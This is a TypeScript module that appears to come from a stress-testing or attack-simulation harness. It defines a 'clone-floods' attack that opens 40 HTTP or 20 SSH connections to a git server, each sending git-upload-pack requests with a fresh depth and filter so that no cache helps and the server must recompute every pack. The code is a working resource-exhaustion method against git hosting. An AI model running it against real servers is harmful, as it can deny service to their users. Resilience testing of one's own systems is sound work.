import { fetchBody, fetchHeaders } from '../wire/fetch-request.ts'
import { hammer } from '../wire/hammer.ts'
import { requestBytes } from '../wire/request.ts'
import { basic } from '../wire/sender.ts'
import { channelClosed, holdOverSsh, runOverSsh } from '../wire/ssh.ts'
import { type Attack, factOf } from './attack.ts'

/** Each depth is another pack: no cache has it, and each is reckoned anew. */
export const cloneFloods: Attack = {
  name: 'clone-floods',
  about: '40 clones at once, each of another depth or filter, so that no cache has it',
  doors: ['http', 'ssh'],
  roles: ['visitor', 'account'],
  async prepare({ shared }) {
    return { repository: [shared.repository], commits: shared.commits.slice(0, 1) }
  },
  async play(play) {
    const repository = factOf(play, 'repository')
    const { addresses, role, door } = play.phase
    let round = addresses * 500 + (role === 'account' ? 250 : 0) + (door === 'ssh' ? 10_000 : 0)
    const body = () => {
      round += 1
      const filter = round % 3 === 0 ? ['filter blob:none'] : []
      return fetchBody([`want ${factOf(play, 'commits')}`, `deepen ${100 + round}`, ...filter])
    }
    if (door === 'ssh') {
      return holdOverSsh(play, {
        connections: 20,
        async work(client) {
          const command = `git-upload-pack '/${repository}.git'`
          const channel = await runOverSsh(client, { command, protocol: 'version=2' })
          channel.resume()
          channel.end(body())
          await channelClosed(channel)
          play.count('cloned')
        },
      })
    }
    return hammer(play, {
      connections: 40,
      request: (sender) =>
        requestBytes({
          method: 'POST',
          path: `/${repository}.git/git-upload-pack`,
          headers: { ...fetchHeaders, ...basic(sender) },
          body: body(),
        }),
    })
  },
}
